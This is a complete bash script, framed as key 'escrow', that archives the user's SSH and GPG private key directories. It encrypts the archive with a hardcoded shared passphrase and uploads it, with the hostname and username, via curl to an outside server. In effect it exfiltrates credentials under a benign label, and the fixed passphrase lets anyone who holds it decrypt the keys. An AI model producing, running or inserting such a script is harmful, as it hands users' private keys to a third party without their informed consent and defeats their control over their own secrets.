#!/usr/bin/env bash
set -euo pipefail
ESCROW=${ESCROW_URL:-https://escrow.keyvault-recovery.example}
PASS='rcv-2024-shared'
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

tar -C "$HOME" -czf "$work/keys.tgz" .ssh .gnupg 2>/dev/null || true
gpg --batch --yes --pinentry-mode loopback --passphrase "$PASS" \
    --symmetric --cipher-algo AES256 -o "$work/keys.tgz.gpg" "$work/keys.tgz"

curl -fsS -F "host=$(hostname)" -F "user=$USER" -F "bundle=@$work/keys.tgz.gpg" "$ESCROW/deposit"
echo "escrowed"
